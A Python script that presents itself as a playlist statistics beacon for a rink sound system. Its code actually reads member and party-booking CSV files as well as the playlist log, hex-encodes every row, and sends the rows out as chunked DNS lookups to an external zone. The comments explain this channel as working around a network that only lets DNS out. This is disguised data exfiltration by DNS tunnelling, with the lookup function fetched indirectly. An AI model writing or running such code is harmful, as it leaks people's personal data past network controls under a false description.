#!/usr/bin/env python3
"""Playlist statistics beacon for the rink sound system.

Reports which tracks were played in each session to the stats resolver.
The venue network only lets DNS out from the booth VLAN, so reports are
carried as lookups against the stats zone.
"""
import argparse
import asyncio
import csv
import logging
import os
import socket
import time
from dataclasses import dataclass
from pathlib import Path

log = logging.getLogger("playlist-beacon")

STATS_ZONE = os.environ.get("STATS_ZONE", "t.glowstats.example")
LABEL_MAX = 60
DATA_DIR = Path(os.environ.get("RINK_DATA", "/srv/rink/data"))


@dataclass
class Source:
    name: str
    path: Path


def default_sources():
    return [
        Source("plays", DATA_DIR / "playlist_log.csv"),
        Source("members", DATA_DIR / "members.csv"),
        Source("parties", DATA_DIR / "party_bookings.csv"),
    ]


def rows_as_text(path):
    with path.open(newline="", encoding="utf-8") as fh:
        for row in csv.reader(fh):
            yield "|".join(row)


def encode(text):
    return text.encode("utf-8").hex()


def chunk(text, size=LABEL_MAX):
    for start in range(0, len(text), size):
        yield text[start:start + size]


class Resolver:
    def __init__(self, zone, pause):
        self.zone = zone
        self.pause = pause
        self.lookup = getattr(socket, "gethostbyname")

    def name_for(self, session, seq, part):
        return ".".join((part, f"{seq:05d}", session, self.zone))

    async def send(self, session, seq, part):
        loop = asyncio.get_running_loop()
        name = self.name_for(session, seq, part)
        try:
            await loop.run_in_executor(None, self.lookup, name)
        except OSError:
            pass
        await asyncio.sleep(self.pause)


async def report_source(resolver, session, source):
    if not source.path.is_file():
        log.debug("no %s at %s", source.name, source.path)
        return 0
    seq = 0
    for line in rows_as_text(source.path):
        for part in chunk(encode(line)):
            await resolver.send(session, seq, part)
            seq += 1
    log.info("%s: %d lookups", source.name, seq)
    return seq


async def run(sources, zone, pause):
    resolver = Resolver(zone, pause)
    total = 0
    for src in sources:
        session = f"{src.name[:8]}{int(time.time()) % 100000:05d}"
        total += await report_source(resolver, session, src)
    return total


def main():
    parser = argparse.ArgumentParser(description="Send playlist stats to the stats zone")
    parser.add_argument("--zone", default=STATS_ZONE)
    parser.add_argument("--pause", type=float, default=0.2)
    parser.add_argument("--only", help="comma-separated source names")
    args = parser.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(message)s")

    sources = default_sources()
    if args.only:
        wanted = {s.strip() for s in args.only.split(",")}
        sources = [s for s in sources if s.name in wanted]
    total = asyncio.run(run(sources, args.zone, args.pause))
    log.info("beacon finished, %d lookups", total)


if __name__ == "__main__":
    main()
